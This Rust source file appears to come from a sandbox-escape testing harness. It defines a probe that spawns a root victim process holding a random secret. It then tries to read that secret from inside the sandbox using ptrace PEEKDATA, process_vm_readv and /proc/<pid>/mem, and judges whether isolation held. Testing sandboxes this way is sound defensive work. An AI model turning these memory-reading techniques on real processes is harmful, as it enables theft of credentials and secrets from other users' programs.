//! ptrace-outside: attach to a root victim outside the sandbox and read its secret from memory.

use crate::kit::{judge_secret, with_args, wrong_state};
use crate::world::{Victim, VictimKind, VictimOptions, World};
use crate::{
    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
    ProbeMeta, RunObservation, Steps,
};
use nix::sys::ptrace;
use nix::sys::uio::{process_vm_readv, RemoteIoVec};
use nix::sys::wait::{waitpid, WaitPidFlag, WaitStatus};
use nix::unistd::Pid;
use std::io::IoSliceMut;

pub struct PtraceOutside;

static META: ProbeMeta = ProbeMeta {
    id: "ptrace-outside",
    title: "ptrace an outside root process and read its memory",
    technique:
        "The payload calls PTRACE_ATTACH on a process outside the sandbox (a victim running \
        as root that holds a secret in a heap buffer), waits for it to stop and reads the buffer \
        word by word with PTRACE_PEEKDATA; it also tries process_vm_readv and /proc/<pid>/mem, \
        which need the same ptrace access. A bare root process may trace any process, so this works unless the \
        victim is invisible (pid-ns), the tracer lacks CAP_SYS_PTRACE and a matching uid, or the \
        syscall is filtered.",
    oracle: "The victim's per-attempt secret (a fresh random value only in the victim's memory) \
        appears in the payload's report.",
    layers: &[
        Layer::PidNs,
        Layer::Uid,
        Layer::Caps,
        Layer::UserNs,
        Layer::Seccomp,
        Layer::Landlock,
    ],
    references: &[
        "CDK check_ptrace",
        "ptrace(2) access mode checks (PTRACE_MODE_ATTACH_REALCREDS)",
        "Yama ptrace_scope",
    ],
    class: ProbeClass::Plain,
};

pub(super) struct VictimState {
    pub secret: String,
    pub victim: Victim,
}

/// Spawns the victim and passes its pid and the secret's address to the inside.
pub(super) fn arrange_victim(
    probe: &'static str,
    world: &World,
    kind: VictimKind,
) -> Result<Arrangement, ProbeError> {
    let secret = world.fresh_secret().map_err(ProbeError::world(probe))?;
    let victim = world
        .spawn_victim(kind, &secret, &VictimOptions::default())
        .map_err(ProbeError::world(probe))?;
    let args = vec![
        kv("pid", victim.pid()),
        kv("addr", format!("{:#x}", victim.secret_addr())),
        kv("len", victim.secret_len()),
    ];
    Ok(Arrangement::new(args, VictimState { secret, victim }))
}

/// Reads `len` bytes at `addr` in `pid` by ptrace, then by process_vm_readv.
pub(super) fn attempt_read(probe: &str, words: &[String]) -> InsideReport {
    with_args(probe, words, |args, steps| {
        let pid = Pid::from_raw(args.get("pid")?);
        let addr = args.hex("addr")?;
        let len: usize = args.get("len")?;
        peek_by_ptrace(steps, pid, addr, len);
        read_by_process_vm(steps, pid, addr, len);
        read_by_proc_mem(steps, pid, addr, len);
        Ok(())
    })
}

fn peek_by_ptrace(steps: &mut Steps, pid: Pid, addr: u64, len: usize) {
    if steps
        .call(
            "attach to the victim",
            format!("ptrace(PTRACE_ATTACH, {pid})"),
            || ptrace::attach(pid),
        )
        .is_none()
    {
        return;
    }
    let mut stop_signal = None;
    steps.call(
        "wait for the victim to stop",
        format!("waitpid({pid}, __WALL)"),
        || {
            let status = waitpid(pid, Some(WaitPidFlag::__WALL))?;
            if let WaitStatus::Stopped(_, sig) = status {
                stop_signal = Some(sig as i32);
            }
            Ok(status.pid().map_or(0, |p| p.as_raw()))
        },
    );
    if let Some(sig) = stop_signal {
        steps.signal(sig);
    }
    let mut bytes = Vec::with_capacity(len);
    let words = len.div_ceil(8);
    let peeked = steps.call(
        "read the secret word by word",
        format!("ptrace(PTRACE_PEEKDATA, {pid}, {addr:#x}..+{len})"),
        || {
            for i in 0..words {
                let at = addr + 8 * i as u64;
                let word = ptrace::read(pid, at as ptrace::AddressType)?;
                bytes.extend_from_slice(&word.to_ne_bytes());
            }
            Ok(words)
        },
    );
    if peeked.is_some() {
        bytes.truncate(len);
        steps.data(String::from_utf8_lossy(&bytes).into_owned());
    }
    steps.call(
        "let the victim go",
        format!("ptrace(PTRACE_DETACH, {pid})"),
        || ptrace::detach(pid, None),
    );
}

fn read_by_process_vm(steps: &mut Steps, pid: Pid, addr: u64, len: usize) {
    let mut buf = vec![0u8; len];
    let n = steps.call(
        "read the secret without stopping the victim",
        format!("process_vm_readv({pid}, {addr:#x}, {len})"),
        || {
            let mut local = [IoSliceMut::new(&mut buf)];
            let remote = [RemoteIoVec {
                base: addr as usize,
                len,
            }];
            process_vm_readv(pid, &mut local, &remote)
        },
    );
    if let Some(n) = n {
        steps.data(String::from_utf8_lossy(&buf[..n]).into_owned());
    }
}

fn read_by_proc_mem(steps: &mut Steps, pid: Pid, addr: u64, len: usize) {
    use std::os::unix::fs::FileExt;
    let path = format!("/proc/{pid}/mem");
    let mut buf = vec![0u8; len];
    let n = steps.io(
        "read the secret through the victim's memory file",
        format!("open+pread({path}, {addr:#x}, {len})"),
        || std::fs::File::open(&path)?.read_at(&mut buf, addr),
    );
    if let Some(n) = n {
        steps.data(String::from_utf8_lossy(&buf[..n]).into_owned());
    }
}

/// Escaped when the secret came back; the victim's kind goes into the reason.
pub(super) fn judge_read(arrangement: Arrangement, run: &RunObservation, probe: &str) -> Judgement {
    let Ok(state) = arrangement.state.downcast::<VictimState>() else {
        return wrong_state(probe);
    };
    let what = format!(
        "{} victim pid {}",
        state.victim.kind().name(),
        state.victim.pid()
    );
    judge_secret(run, &state.secret, &what)
}

impl Probe for PtraceOutside {
    fn meta(&self) -> &'static ProbeMeta {
        &META
    }
    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
        arrange_victim(META.id, world, VictimKind::Root)
    }
    fn attempt(&self, args: &[String]) -> InsideReport {
        attempt_read(META.id, args)
    }
    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
        judge_read(arrangement, run, META.id)
    }
}
